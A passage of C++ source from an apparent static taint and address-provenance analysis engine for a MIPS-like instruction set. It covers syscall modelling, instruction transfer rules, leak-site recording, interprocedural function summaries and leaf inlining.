        case Region::kData: store_global_cell(a); break;
        case Region::kStack: store_stack_region(); break;  // absolute addr:
        case Region::kText: store_text(); break;           // frame unknown
        default: break;  // argv / low memory: nothing modeled lives there
      }
      break;
    }
    case VsKind::kStackRel: store_stack_cell(a2.value); break;
    case VsKind::kStackRegion: store_stack_region(); break;
    case VsKind::kDataRegion: store_globals_region(); break;
    case VsKind::kAny:
      store_stack_region();
      store_globals_region();
      store_text();
      break;
  }
}

void VsaEngine::do_syscall(uint32_t pc, State& s, EventSet* sink, bool& dead,
                           int fn) {
  const AbsVal v0 = s.reg(isa::kV0);
  auto root_at = [&](uint64_t loc) {
    if (sink) sink->insert({pc, loc, 0, Root::kSyscallInput});
  };
  // Input bytes are data-tainted but provenance-free (the kernel overwrote
  // whatever pointer was parked there); the join keeps any prior planes,
  // which is sound — only a strong update could clear them.
  auto taint_stack_range = [&](int32_t c, uint32_t n) {
    for (int32_t off = c & ~3; off < c + static_cast<int32_t>(n); off += 4) {
      s.set_stack(off, join(s.stack_cell(off), AbsVal::tainted_input()));
    }
    root_at(kLocStack);
  };
  auto taint_global_range = [&](uint32_t a, uint32_t n) {
    for (uint32_t w = a & ~3u; w < a + n; w += 4) {
      s.set_global(w, join(s.global_cell(w), AbsVal::tainted_input()));
      root_at(loc_global(w));
    }
    root_at(kLocGlobals);
  };
  auto taint_stack_all = [&]() {
    s.stack.clear();  // absent = possibly tainted
    summary_unknown_write(fn, Taint::kMaybeTainted, 0);
    root_at(kLocStack);
  };
  auto taint_globals_all = [&]() {
    s.globals_default = join(s.globals_default, Taint::kMaybeTainted);
    s.heap = join(s.heap, Taint::kMaybeTainted);
    s.globals.clear();  // every cell joins to the new (tainted) default
    root_at(kLocGlobals);
    root_at(kLocHeap);
  };
  auto taint_text = [&]() {
    s.text = join(s.text, Taint::kMaybeTainted);
    root_at(kLocText);
  };

  if (!v0.vs.is_const()) {
    // Unknown syscall number: could be any input syscall with any buffer —
    // and could be an output syscall leaking any address, or a SYS_BRK
    // whose result carries heap provenance.
    record_leak_site_all(pc);
    taint_stack_all();
    taint_globals_all();
    taint_text();
    s.set_reg(isa::kV0,
              {Taint::kUntainted, ValueSet::any(), mem::kHeapAddrMask});
    if (sink) {
      aprov_events_.insert({pc, loc_reg(isa::kV0), 0, Root::kHeapAddrIntro});
    }
    return;
  }
  const uint32_t no = static_cast<uint32_t>(v0.vs.value);
  if (no == os::kSysExit) {
    dead = true;  // never returns; nothing downstream executes
    return;
  }
  if (no == os::kSysBrk) {
    // The returned break is the root of heap address provenance.
    s.set_reg(isa::kV0, {Taint::kUntainted, ValueSet::data_region(),
                         mem::kHeapAddrMask});
    if (sink) {
      aprov_events_.insert({pc, loc_reg(isa::kV0), 0, Root::kHeapAddrIntro});
    }
    return;
  }
  if (no == os::kSysWrite || no == os::kSysSend) {
    // Kernel-output site: classify what the buffer may expose (the static
    // mirror of Cpu::kernel_output_leak).
    record_leak_site(pc, s);
    s.set_reg(isa::kV0, AbsVal::untainted_any());
    return;
  }
  if (no == os::kSysRead || no == os::kSysRecv) {
    const AbsVal buf = s.reg(isa::kA1);
    const AbsVal len = s.reg(isa::kA2);
    uint32_t n = 0;
    bool n_known = false;
    if (len.vs.is_const() &&
        static_cast<uint32_t>(len.vs.value) <= 4096) {
      n = static_cast<uint32_t>(len.vs.value);
      n_known = true;
    }
    ValueSet b = buf.vs;
    if (may_be_tainted(buf.taint)) b = ValueSet::any();
    switch (b.kind) {
      case VsKind::kStackRel:
        if (n_known) taint_stack_range(b.value, n);
        else taint_stack_all();
        break;
      case VsKind::kConst: {
        const uint32_t a = static_cast<uint32_t>(b.value);
        switch (region_of_addr(a)) {
          case Region::kData:
            if (n_known) taint_global_range(a, n);
            else taint_globals_all();
            break;
          case Region::kStack: taint_stack_all(); break;
          case Region::kText: taint_text(); break;
          default: break;  // argv / low memory: not modeled
        }
        break;
      }
      case VsKind::kStackRegion: taint_stack_all(); break;
      case VsKind::kDataRegion: taint_globals_all(); break;
      case VsKind::kAny:
        taint_stack_all();
        taint_globals_all();
        taint_text();
        break;
    }
    s.set_reg(isa::kV0, AbsVal::untainted_any());
    return;
  }
  // Every other syscall returns an untainted result and writes no guest
  // memory (mirrors SimOs).
  s.set_reg(isa::kV0, AbsVal::untainted_any());
}

void VsaEngine::record_leak_site(uint32_t pc, const State& s) {
  if (!collecting_) return;
  const int li = leak_site_of_[cfg_.index_of(pc)];
  if (li < 0) return;
  LeakSite& site = leak_sites_[static_cast<size_t>(li)];
  std::set<uint64_t>& locs = leak_srcs_[static_cast<size_t>(li)];
  site.reachable = true;

  mem::TaintBits planes = 0;
  auto addp = [&](mem::TaintBits p, uint64_t loc) {
    p &= mem::kAddrMask;
    planes |= p;
    if (p != 0) locs.insert(loc);
  };
  auto scan_stack_byte = [&](int32_t a) {
    auto it = s.stack.find(a & ~3);
    const mem::TaintBits cell =
        it == s.stack.end() ? mem::kAddrMask : it->second.aprov;
    addp(static_cast<mem::TaintBits>(
             cell & mem::planes_to_word(mem::kByteAddrMask, a & 3)),
         kLocStack);
  };
  auto scan_global_byte = [&](uint32_t a) {
    auto it = s.globals.find(a & ~3u);
    if (it == s.globals.end()) {
      addp(static_cast<mem::TaintBits>(s.globals_aprov | s.heap_aprov),
           kLocGlobals);
      if (s.heap_aprov != 0) locs.insert(kLocHeap);
    } else {
      addp(static_cast<mem::TaintBits>(
               it->second.aprov &
               mem::planes_to_word(mem::kByteAddrMask,
                                   static_cast<int>(a & 3u))),
           loc_global(a & ~3u));
    }
  };
  auto all_stack = [&] { addp(mem::kAddrMask, kLocStack); };
  auto all_globals = [&] {
    addp(globals_region_aprov(s), kLocGlobals);
    if (s.heap_aprov != 0) locs.insert(kLocHeap);
  };
  auto all_text = [&] { addp(s.text_aprov, kLocText); };
  auto everything = [&] {
    all_stack();
    all_globals();
    all_text();
  };

  const AbsVal buf = s.reg(isa::kA1);
  const AbsVal len = s.reg(isa::kA2);
  uint32_t n = 0;
  bool n_known = false;
  if (len.vs.is_const() && static_cast<uint32_t>(len.vs.value) <= 4096) {
    n = static_cast<uint32_t>(len.vs.value);
    n_known = true;
  }
  ValueSet b = buf.vs;
  if (may_be_tainted(buf.taint)) b = ValueSet::any();  // wild buffer pointer
  switch (b.kind) {
    case VsKind::kStackRel:
      if (n_known) {
        for (uint32_t j = 0; j < n; ++j) {
          scan_stack_byte(b.value + static_cast<int32_t>(j));
        }
      } else {
        all_stack();
      }
      break;
    case VsKind::kConst: {
      const uint32_t a = static_cast<uint32_t>(b.value);
      switch (region_of_addr(a)) {
        case Region::kData:
          if (n_known) {
            for (uint32_t j = 0; j < n; ++j) scan_global_byte(a + j);
          } else {
            all_globals();
          }
          break;
        case Region::kStack: all_stack(); break;
        case Region::kText: all_text(); break;
        // Argv / low memory: stores there are not modeled, so assume the
        // worst rather than claim cleanliness the model cannot back.
        default: everything(); break;
      }
      break;
    }
    case VsKind::kStackRegion: all_stack(); break;
    case VsKind::kDataRegion: all_globals(); break;
    case VsKind::kAny: everything(); break;
  }
  site.may_planes |= planes;
}

void VsaEngine::record_leak_site_all(uint32_t pc) {
  if (!collecting_) return;
  const int li = leak_site_of_[cfg_.index_of(pc)];
  if (li < 0) return;
  LeakSite& site = leak_sites_[static_cast<size_t>(li)];
  site.reachable = true;
  site.may_planes = mem::kAddrMask;
  leak_srcs_[static_cast<size_t>(li)].insert(
      {kLocStack, kLocGlobals, kLocHeap, kLocText});
}

void VsaEngine::transfer(uint32_t pc, const Instruction& inst, State& s,
                         EventSet* sink, bool& dead, int fn) {
  const AbsVal rs = s.reg(inst.rs);
  const AbsVal rt = s.reg(inst.rt);
  std::array<AbsVal, RegState::kCount> pre;
  if (sink) pre = s.regs;
  // Address-plane or-merge of both operands (the dynamic default rule);
  // byte positions are preserved, as in the dynamic per-byte or.
  const auto ap2 = [&]() {
    return static_cast<mem::TaintBits>((rs.aprov | rt.aprov) & mem::kAddrMask);
  };

  switch (inst.op) {
    case Op::kSll: case Op::kSrl: case Op::kSra: {
      ValueSet v = ValueSet::any();
      if (rt.vs.is_const()) {
        const uint32_t x = static_cast<uint32_t>(rt.vs.value);
        const uint32_t sh = inst.shamt & 31u;
        const uint32_t y = inst.op == Op::kSll ? x << sh
                           : inst.op == Op::kSrl ? x >> sh
                           : static_cast<uint32_t>(
                                 static_cast<int32_t>(x) >> sh);
        v = ValueSet::constant(static_cast<int32_t>(y));
      }
      // A constant shift moves bytes: widen any plane over the result.
      s.set_reg(inst.rd, {rt.taint, v, mem::widen_planes(rt.aprov)});
      break;
    }
    case Op::kSllv: case Op::kSrlv: case Op::kSrav:
      s.set_reg(inst.rd, {join(rt.taint, rs.taint), ValueSet::any(),
                          mem::widen_planes(ap2())});
      break;

    case Op::kAdd: case Op::kAddu:
      s.set_reg(inst.rd,
                {join(rs.taint, rt.taint), vs_add(rs.vs, rt.vs), ap2()});
      break;
    case Op::kSub: case Op::kSubu: {
      // Pointer difference: a plane present on BOTH operands cancels
      // dynamically (ptr - ptr is a length, not an address).  The static
      // mirror cancels the stack plane when both operands are sp-derived —
      // a must-claim modulo the in-region assumption (see sp_derived).
      mem::TaintBits ap = ap2();
      if (sp_derived(rs.vs) && sp_derived(rt.vs)) {
        ap &= static_cast<mem::TaintBits>(~mem::kStackAddrMask);
      }
      s.set_reg(inst.rd,
                {join(rs.taint, rt.taint), vs_sub(rs.vs, rt.vs), ap});
      break;
    }

    case Op::kOr: case Op::kNor: {
      ValueSet v = ValueSet::any();
      if (rs.vs.is_const() && rt.vs.is_const()) {
        uint32_t y = static_cast<uint32_t>(rs.vs.value) |
                     static_cast<uint32_t>(rt.vs.value);
        if (inst.op == Op::kNor) y = ~y;
        v = ValueSet::constant(static_cast<int32_t>(y));
      } else if (inst.op == Op::kOr && inst.rt == isa::kZero) {
        v = rs.vs;  // `move rd, rs` idiom
      } else if (inst.op == Op::kOr && inst.rs == isa::kZero) {
        v = rt.vs;
      }
      s.set_reg(inst.rd, {join(rs.taint, rt.taint), v, ap2()});
      break;
    }
    case Op::kAnd: {
      const bool with_zero = inst.rs == isa::kZero || inst.rt == isa::kZero;
      ValueSet v = ValueSet::any();
      if (with_zero) v = ValueSet::constant(0);
      else if (rs.vs.is_const() && rt.vs.is_const()) {
        v = ValueSet::constant(static_cast<int32_t>(
            static_cast<uint32_t>(rs.vs.value) &
            static_cast<uint32_t>(rt.vs.value)));
      }
      const Taint t = (policy_.and_zero_untaints && with_zero)
                          ? Taint::kUntainted
                          : join(rs.taint, rt.taint);
      const mem::TaintBits ap =
          (policy_.and_zero_untaints && with_zero) ? 0 : ap2();
      s.set_reg(inst.rd, {t, v, ap});
      break;
    }
    case Op::kXor: {
      ValueSet v = ValueSet::any();
      if (inst.rs == inst.rt) v = ValueSet::constant(0);
      else if (rs.vs.is_const() && rt.vs.is_const()) {
        v = ValueSet::constant(static_cast<int32_t>(
            static_cast<uint32_t>(rs.vs.value) ^
            static_cast<uint32_t>(rt.vs.value)));
      }
      const Taint t = (policy_.xor_self_untaints && inst.rs == inst.rt)
                          ? Taint::kUntainted
                          : join(rs.taint, rt.taint);
      const mem::TaintBits ap =
          (policy_.xor_self_untaints && inst.rs == inst.rt) ? 0 : ap2();
      s.set_reg(inst.rd, {t, v, ap});
      break;
    }

    // Compare family: the untaint rule clears taint but never the value set
    // (validating a pointer does not change where it points) nor the
    // address planes (provenance is sticky through compares); the 0/1
    // result itself carries no address bytes.
    case Op::kSlt: case Op::kSltu:
      if (policy_.compare_untaints) {
        s.set_reg(inst.rs, {Taint::kUntainted, rs.vs, rs.aprov});
        s.set_reg(inst.rt, {Taint::kUntainted, rt.vs, rt.aprov});
        s.set_reg(inst.rd, {Taint::kUntainted, ValueSet::any(), 0});
      } else {
        s.set_reg(inst.rd, {join(rs.taint, rt.taint), ValueSet::any(), 0});
      }
      break;
    case Op::kSlti: case Op::kSltiu:
      if (policy_.compare_untaints) {
        s.set_reg(inst.rs, {Taint::kUntainted, rs.vs, rs.aprov});
        s.set_reg(inst.rt, {Taint::kUntainted, ValueSet::any(), 0});
      } else {
        s.set_reg(inst.rt, {rs.taint, ValueSet::any(), 0});
      }
      break;

    case Op::kMult: case Op::kMultu: case Op::kDiv: case Op::kDivu: {
      // The dynamic rule or-merges the full plane vector into HI and LO
      // (this is what lets a divu-formatted pointer keep its provenance).
      const AbsVal v{join(rs.taint, rt.taint), ValueSet::any(),
                     mem::widen_planes(ap2())};
      s.set_reg(RegState::kHi, v);
      s.set_reg(RegState::kLo, v);
      break;
    }
    case Op::kMfhi: s.set_reg(inst.rd, s.reg(RegState::kHi)); break;
    case Op::kMflo: s.set_reg(inst.rd, s.reg(RegState::kLo)); break;
    case Op::kMthi: s.set_reg(RegState::kHi, rs); break;
    case Op::kMtlo: s.set_reg(RegState::kLo, rs); break;

    case Op::kTaintSet:
      // TAINTSET taints the data plane; address planes ride through.
      s.set_reg(inst.rd, {Taint::kMaybeTainted, rs.vs, rs.aprov});
      if (sink) sink->insert({pc, loc_reg(inst.rd), 0, Root::kTaintSet});
      break;
    case Op::kTaintClr:
      // TAINTCLR clears the whole plane vector (mirrors the dynamic rule).
      s.set_reg(inst.rd, {Taint::kUntainted, rs.vs, 0});
      break;

    case Op::kAddi: case Op::kAddiu:
      s.set_reg(inst.rt, {rs.taint,
                          vs_add(rs.vs, ValueSet::constant(inst.imm)),
                          rs.aprov});
      break;
    case Op::kOri: case Op::kXori: {
      ValueSet v = ValueSet::any();
      if (rs.vs.is_const()) {
        const uint32_t imm16 = static_cast<uint32_t>(inst.imm) & 0xffffu;
        const uint32_t x = static_cast<uint32_t>(rs.vs.value);
        v = ValueSet::constant(static_cast<int32_t>(
            inst.op == Op::kOri ? x | imm16 : x ^ imm16));
      }
      s.set_reg(inst.rt, {rs.taint, v, rs.aprov});
      break;
    }
    case Op::kAndi: {
      const uint32_t imm16 = static_cast<uint32_t>(inst.imm) & 0xffffu;
      ValueSet v = ValueSet::any();
      if (imm16 == 0) v = ValueSet::constant(0);
      else if (rs.vs.is_const()) {
        v = ValueSet::constant(static_cast<int32_t>(
            static_cast<uint32_t>(rs.vs.value) & imm16));
      }
      const Taint t = (policy_.and_zero_untaints && imm16 == 0)
                          ? Taint::kUntainted : rs.taint;
      const mem::TaintBits ap =
          (policy_.and_zero_untaints && imm16 == 0) ? 0 : rs.aprov;
      s.set_reg(inst.rt, {t, v, ap});
      break;
    }
    case Op::kLui: {
      // A text-range constant (`la label` of code, function pointers,
      // return targets) is a text address: seed text provenance, exactly
      // as the dynamic engines do.
      const uint32_t lv = (static_cast<uint32_t>(inst.imm) & 0xffffu) << 16;
      const uint32_t tb = cfg_.text_begin();
      const uint32_t te =
          tb + 4 * static_cast<uint32_t>(cfg_.instructions().size());
      const mem::TaintBits lt =
          lv >= tb && lv < te ? mem::kTextAddrMask : mem::kUntainted;
      s.set_reg(inst.rt, {Taint::kUntainted,
                          ValueSet::constant(static_cast<int32_t>(lv)), lt});
      if (sink && lt != 0) {
        aprov_events_.insert({pc, loc_reg(inst.rt), 0, Root::kTextAddrIntro});
      }
      break;
    }

    case Op::kLb: case Op::kLh: case Op::kLw: case Op::kLbu: case Op::kLhu:
      do_load(pc, inst, s, sink);
      break;
    case Op::kSb: case Op::kSh: case Op::kSw:
      do_store(pc, inst, s, sink, fn);
      break;

    case Op::kBeq: case Op::kBne:
      if (policy_.compare_untaints) {
        s.set_reg(inst.rs, {Taint::kUntainted, rs.vs, rs.aprov});
        s.set_reg(inst.rt, {Taint::kUntainted, rt.vs, rt.aprov});
      }
      break;
    case Op::kBlez: case Op::kBgtz: case Op::kBltz: case Op::kBgez:
      if (policy_.compare_untaints) {
        s.set_reg(inst.rs, {Taint::kUntainted, rs.vs, rs.aprov});
      }
      break;
    case Op::kBltzal: case Op::kBgezal:
      if (policy_.compare_untaints) {
        s.set_reg(inst.rs, {Taint::kUntainted, rs.vs, rs.aprov});
      }
      // The link register holds a return address: text provenance.
      s.set_reg(isa::kRa, {Taint::kUntainted,
                           ValueSet::constant(static_cast<int32_t>(pc + 4)),
                           mem::kTextAddrMask});
      if (sink) {
        aprov_events_.insert({pc, loc_reg(isa::kRa), 0, Root::kTextAddrIntro});
      }
      break;

    case Op::kJ: break;
    case Op::kJal:
      s.set_reg(isa::kRa, {Taint::kUntainted,
                           ValueSet::constant(static_cast<int32_t>(pc + 4)),
                           mem::kTextAddrMask});
      if (sink) {
        aprov_events_.insert({pc, loc_reg(isa::kRa), 0, Root::kTextAddrIntro});
      }
      break;
    case Op::kJr: break;
    case Op::kJalr:
      s.set_reg(inst.rd, {Taint::kUntainted,
                          ValueSet::constant(static_cast<int32_t>(pc + 4)),
                          mem::kTextAddrMask});
      if (sink) {
        aprov_events_.insert({pc, loc_reg(inst.rd), 0, Root::kTextAddrIntro});
      }
      break;

    case Op::kSyscall:
      do_syscall(pc, s, sink, dead, fn);
      break;
    case Op::kBreak:
    case Op::kInvalid:
      break;
  }

  // Generic register-to-register provenance edges for the witness fabric
  // (loads/stores/syscalls/TAINTSET emit their own above).  The address
  // planes get a parallel edge set feeding the leak witnesses.
  if (sink && !inst.is_mem() && inst.op != Op::kSyscall &&
      inst.op != Op::kTaintSet) {
    const Effects e = effects_of(inst);
    for (int w : e.writes) {
      if (w < 0) continue;
      const AbsVal& post = s.regs[static_cast<size_t>(w)];
      for (int r : e.reads) {
        if (r < 0) continue;
        const AbsVal& prev = pre[static_cast<size_t>(r)];
        if (may_be_tainted(post.taint) && may_be_tainted(prev.taint)) {
          sink->insert({pc, loc_reg(w), loc_reg(r), Root::kNone});
        }
        if ((post.aprov & mem::kAddrMask) != 0 &&
            (prev.aprov & mem::kAddrMask) != 0) {
          aprov_events_.insert({pc, loc_reg(w), loc_reg(r), Root::kNone});
        }
      }
    }
  }
}

// ---- function summaries ----------------------------------------------------

void VsaEngine::summary_write(int fn, int32_t off, AbsVal v) {
  if (fn < 0 || off < 0) return;
  bool changed = false;
  {
    std::lock_guard<std::mutex> lk(mu_of(fn));
    FnSummary& sum = fns_[static_cast<size_t>(fn)].summary;
    auto it = sum.caller_writes.find(off);
    const AbsVal nv = it == sum.caller_writes.end() ? v : join(it->second, v);
    if (it == sum.caller_writes.end() || nv != it->second) {
      sum.caller_writes[off] = nv;
      changed = true;
    }
  }
  if (changed) summary_changed(fn);
}

void VsaEngine::summary_unknown_write(int fn, Taint t, mem::TaintBits aprov) {
  if (fn < 0) return;
  bool changed = false;
  {
    std::lock_guard<std::mutex> lk(mu_of(fn));
    FnSummary& sum = fns_[static_cast<size_t>(fn)].summary;
    const Taint nt = join(sum.unknown_taint, t);
    const mem::TaintBits na =
        static_cast<mem::TaintBits>(sum.unknown_aprov | aprov);
    if (!sum.unknown_write || nt != sum.unknown_taint ||
        na != sum.unknown_aprov) {
      sum.unknown_write = true;
      sum.unknown_taint = nt;
      sum.unknown_aprov = na;
      changed = true;
    }
  }
  if (changed) summary_changed(fn);
}

void VsaEngine::summary_changed(int fidx) {
  std::vector<uint32_t> pcs;
  {
    std::lock_guard<std::mutex> lk(inter_mu_);
    auto it = call_pairs_.find(fidx);
    if (it == call_pairs_.end()) return;
    pcs.assign(it->second.begin(), it->second.end());
  }
  for (uint32_t call_pc : pcs) queue_compose(call_pc, fidx);
}

// ---- interprocedural driver ------------------------------------------------

void VsaEngine::flow_to(int b, const State& s) {
  if (b < 0) return;
  const auto ub = static_cast<size_t>(b);
  const int bfn = cfg_.blocks()[ub].function;
  if (warm_ && block_dirty_[ub] == 0) {
    // A preloaded clean block: its converged in-state must already absorb
    // this flow, or the warm run cannot reproduce the cold result.
    std::lock_guard<std::mutex> lk(mu_of(bfn));
    if (has_in_[ub] == 0 || !(join_states(in_state_[ub], s) == in_state_[ub])) {
      warm_failed_ = true;
    }
    return;  // clean blocks are never re-iterated
  }
  bool changed = false;
  {
    std::lock_guard<std::mutex> lk(mu_of(bfn));
    if (has_in_[ub] == 0) {
      in_state_[ub] = s;
      has_in_[ub] = 1;
      changed = true;
    } else {
      State j = join_states(in_state_[ub], s);
      changed = !(j == in_state_[ub]);
      in_state_[ub] = std::move(j);
    }
  }
  if (!changed) return;
  std::lock_guard<std::mutex> lk(wl_mu_);
  if (queued_[ub] == 0) {
    queued_[ub] = 1;
    if (parallel_) {
      pq_.insert({bfn >= 0 ? fn_prio_[static_cast<size_t>(bfn)]
                           : static_cast<int>(fn_prio_.size()),
                  b});
    } else {
      worklist_.push_back(b);
    }
    wl_cv_.notify_one();
  }
}

void VsaEngine::queue_compose(uint32_t call_pc, int fidx) {
  std::lock_guard<std::mutex> lk(wl_mu_);
  if (compose_queued_.insert({call_pc, fidx}).second) {
    compose_q_.push_back({call_pc, fidx});
    wl_cv_.notify_one();
  }
}

State VsaEngine::degrade_for_foreign(const State& s) const {
  State r = s;
  r.stack.clear();
  for (AbsVal& v : r.regs) v.vs = unanchor_vs(v.vs);
  r.regs[0] = AbsVal::untainted_const(0);
  return r;
}

// The no-information state that survives a call whose callee the CFG could
// not resolve: every register, memory region and cell may hold anything,
// possibly tainted.
State VsaEngine::smash_unknown_call() {
  State r;
  for (AbsVal& v : r.regs) v = AbsVal::maybe_any();
  r.regs[0] = AbsVal::untainted_const(0);
  r.globals_default = Taint::kMaybeTainted;
  r.heap = Taint::kMaybeTainted;
  r.text = Taint::kMaybeTainted;
  r.globals_aprov = mem::kAddrMask;
  r.heap_aprov = mem::kAddrMask;
  r.text_aprov = mem::kAddrMask;
  return r;  // stack empty: absent = kStackDefault = maybe-any
}

State VsaEngine::make_entry(const CallSite& cs) const {
  State e;
  for (int i = 0; i < RegState::kCount; ++i) {
    AbsVal v = cs.state.regs[static_cast<size_t>(i)];
    v.vs = cs.d_known ? rebase_vs(v.vs, -cs.d) : unanchor_vs(v.vs);
    e.regs[static_cast<size_t>(i)] = v;
  }
  e.regs[0] = AbsVal::untainted_const(0);
  // By definition of the callee frame coordinates, the entry $sp is offset
  // zero; the convention is verified (not assumed) because the exit $sp is
  // whatever the analysis computes and is rebased back at compose time.
  e.set_reg(isa::kSp, {cs.state.reg(isa::kSp).taint, ValueSet::stack_rel(0),
                       cs.state.reg(isa::kSp).aprov});
  e.globals = cs.state.globals;
  e.globals_default = cs.state.globals_default;
  e.heap = cs.state.heap;
  e.text = cs.state.text;
  e.globals_aprov = cs.state.globals_aprov;
  e.heap_aprov = cs.state.heap_aprov;
  e.text_aprov = cs.state.text_aprov;
  return e;
}

void VsaEngine::handle_call(uint32_t call_pc, int caller_fn, int fidx,
                            const State& s) {
  CallSite snap;
  {
    std::lock_guard<std::mutex> lk(inter_mu_);
    CallSite& cs = call_sites_[call_pc];
    std::optional<int32_t> d;
    if (s.reg(isa::kSp).vs.is_stack_rel()) d = s.reg(isa::kSp).vs.value;
    if (!cs.seen) {
      cs.seen = true;
      cs.state = s;
      cs.caller_fn = caller_fn;
      cs.d_known = d.has_value();
      cs.d = d.value_or(0);
    } else {
      cs.state = join_states(cs.state, s);
      if (cs.d_known && (!d.has_value() || *d != cs.d)) cs.d_known = false;
    }
    call_pairs_[fidx].insert(call_pc);
    snap = cs;
  }
  const int eb = cfg_.block_at(cfg_.functions()[static_cast<size_t>(fidx)]
                                   .entry);
  if (eb >= 0) flow_to(eb, make_entry(snap));
  queue_compose(call_pc, fidx);
}

void VsaEngine::capture_exit(int fidx, const State& s) {
  State e = s;
  e.stack.clear();  // caller-frame effects travel via the summary instead
  bool changed;
  {
    std::lock_guard<std::mutex> lk(mu_of(fidx));
    FnInfo& fn = fns_[static_cast<size_t>(fidx)];
    if (!fn.has_exit) {
      fn.exit = std::move(e);
      fn.has_exit = true;
      changed = true;
    } else {
      State j = join_states(fn.exit, e);
      changed = !(j == fn.exit);
      fn.exit = std::move(j);
    }
  }
  if (changed) summary_changed(fidx);  // recompose every caller
}

void VsaEngine::compose(uint32_t call_pc, int fidx) {
  CallSite cs;
  {
    std::lock_guard<std::mutex> lk(inter_mu_);
    auto csit = call_sites_.find(call_pc);
    if (csit == call_sites_.end()) return;
    cs = csit->second;
  }
  FnInfo fn;
  {
    std::lock_guard<std::mutex> lk(mu_of(fidx));
    fn = fns_[static_cast<size_t>(fidx)];
  }
  if (!fn.has_exit) return;  // callee (so far) never returns

  State r;
  for (int i = 0; i < RegState::kCount; ++i) {
    AbsVal v = fn.exit.regs[static_cast<size_t>(i)];
    v.vs = cs.d_known ? rebase_vs(v.vs, cs.d) : unanchor_vs(v.vs);
    r.regs[static_cast<size_t>(i)] = v;
  }
  r.regs[0] = AbsVal::untainted_const(0);
  r.globals = fn.exit.globals;
  r.globals_default = fn.exit.globals_default;
  r.heap = fn.exit.heap;
  r.text = fn.exit.text;
  r.globals_aprov = fn.exit.globals_aprov;
  r.heap_aprov = fn.exit.heap_aprov;
  r.text_aprov = fn.exit.text_aprov;

  if (cs.d_known) {
    for (const auto& [c, v] : cs.state.stack) {
      if (c < cs.d) continue;  // below the callee's entry $sp: dead on return
      AbsVal nv = v;
      if (fn.summary.unknown_write) {
        nv = join(nv, {fn.summary.unknown_taint, ValueSet::any(),
                       fn.summary.unknown_aprov});
      }
      if (nv != kStackDefault) r.stack.emplace(c, nv);
    }
    for (const auto& [cp, wv] : fn.summary.caller_writes) {
      const int32_t c = cp + cs.d;
      auto it = r.stack.find(c);
      if (it == r.stack.end()) continue;  // absent: already possibly tainted
      const AbsVal wv2{wv.taint, rebase_vs(wv.vs, cs.d), wv.aprov};
      const AbsVal nv = join(it->second, wv2);
      if (nv == kStackDefault) r.stack.erase(it);
      else it->second = nv;
    }
  }
  // else: frame offset unknown — every caller cell is dropped (= default).

  // Absorb the callee's caller-frame effects transitively into the caller's
  // own summary (a store into the caller's caller must survive two returns).
  if (cs.caller_fn >= 0) {
    if (cs.d_known) {
      for (const auto& [cp, wv] : fn.summary.caller_writes) {
        const int32_t c = cp + cs.d;
        if (c >= 0) {
          summary_write(cs.caller_fn, c,
                        {wv.taint, rebase_vs(wv.vs, cs.d), wv.aprov});
        }
      }
      if (fn.summary.unknown_write) {
        summary_unknown_write(cs.caller_fn, fn.summary.unknown_taint,
                              fn.summary.unknown_aprov);
      }
    } else if (fn.summary.unknown_write || !fn.summary.caller_writes.empty()) {
      Taint t = fn.summary.unknown_taint;
      mem::TaintBits ap = fn.summary.unknown_aprov;
      for (const auto& [cp, wv] : fn.summary.caller_writes) {
        t = join(t, wv.taint);
        ap = static_cast<mem::TaintBits>(ap | mem::widen_planes(wv.aprov));
      }
      summary_unknown_write(cs.caller_fn, t, ap);
    }
  }

  flow_to(cfg_.block_at(call_pc + 4), r);
}

// ---- leaf inlining ---------------------------------------------------------

std::optional<std::vector<int>> VsaEngine::compute_inline_plan(
    int fidx) const {
  const Function& f = cfg_.functions()[static_cast<size_t>(fidx)];
  const int eb = cfg_.block_at(f.entry);
  if (eb < 0) return std::nullopt;
  const auto& blocks = cfg_.blocks();
  std::set<int> seen{eb};
  std::deque<int> q{eb};
  size_t insts = 0;
  while (!q.empty()) {
    const int b = q.front();
    q.pop_front();
    const BasicBlock& bb = blocks[static_cast<size_t>(b)];
    if (bb.function != fidx) return std::nullopt;
    if (!bb.call_succs.empty() || bb.indirect_jump) return std::nullopt;
    insts += bb.size();
    for (uint32_t pc = bb.begin; pc < bb.end; pc += 4) {
      const Op op = cfg_.inst_at(pc).op;
      if (op == Op::kJal || op == Op::kJalr || op == Op::kBltzal ||
          op == Op::kBgezal) {
        return std::nullopt;
      }
    }
    if (seen.size() > 16 || insts > 64) return std::nullopt;
    if (bb.returns) continue;
    for (int succ : bb.succs) {
      if (succ < 0) return std::nullopt;
      if (seen.insert(succ).second) q.push_back(succ);
    }
  }
  return std::vector<int>(seen.begin(), seen.end());
}

const std::vector<int>* VsaEngine::inline_plan(int fidx) {
  // The memoized plan vector is stable once inserted (node-based map), so
  // the returned pointer stays valid after the lock drops.
  std::lock_guard<std::mutex> lk(inter_mu_);
  auto it = inline_plans_.find(fidx);
  if (it == inline_plans_.end()) {
    it = inline_plans_.emplace(fidx, compute_inline_plan(fidx)).first;
  }
  return it->second ? &*it->second : nullptr;
}

std::optional<State> VsaEngine::run_inline(int fidx, int caller_fn,
                                           const State& at_call,
                                           EventSet* sink) {
  // Sub-fixpoint in *caller* coordinates: the callee's stack accesses name
  // the caller's precise frame cells (this is what lets a SYS_READ inside
  // `read()` taint exactly the buffer the caller passed).  The transfer
  // keeps `caller_fn`, so caller-frame summary attribution is also correct.
  const int eb = cfg_.block_at(cfg_.functions()[static_cast<size_t>(fidx)]
                                   .entry);
  if (eb < 0) return std::nullopt;
  std::map<int, State> in;
  std::map<int, bool> queued;
  std::deque<int> wl;
  in.emplace(eb, at_call);
  queued[eb] = true;
  wl.push_back(eb);
  std::optional<State> exit;
  auto flow_local = [&](int b, const State& s) {
    auto it = in.find(b);
    bool changed;
    if (it == in.end()) {
      in.emplace(b, s);
      changed = true;
    } else {
      State j = join_states(it->second, s);
      changed = !(j == it->second);
      it->second = std::move(j);
    }
    if (changed && !queued[b]) {
      queued[b] = true;
      wl.push_back(b);
    }
  };
  while (!wl.empty()) {
    if (++block_runs_ > kMaxBlockRuns) {
      exhausted_ = true;
      return std::nullopt;
    }
    const int b = wl.front();
    wl.pop_front();
    queued[b] = false;
    const BasicBlock& bb = cfg_.blocks()[static_cast<size_t>(b)];
    State s = in.at(b);
    bool dead = false;
    for (uint32_t pc = bb.begin; pc < bb.end; pc += 4) {
      const Instruction& inst = cfg_.inst_at(pc);
      record_site(pc, inst, s);
      transfer(pc, inst, s, nullptr, dead, caller_fn);
      if (dead) break;
    }
    if (dead) continue;
    if (bb.returns) {
      if (exit.has_value()) exit = join_states(*exit, s);
      else exit = std::move(s);
      continue;
    }
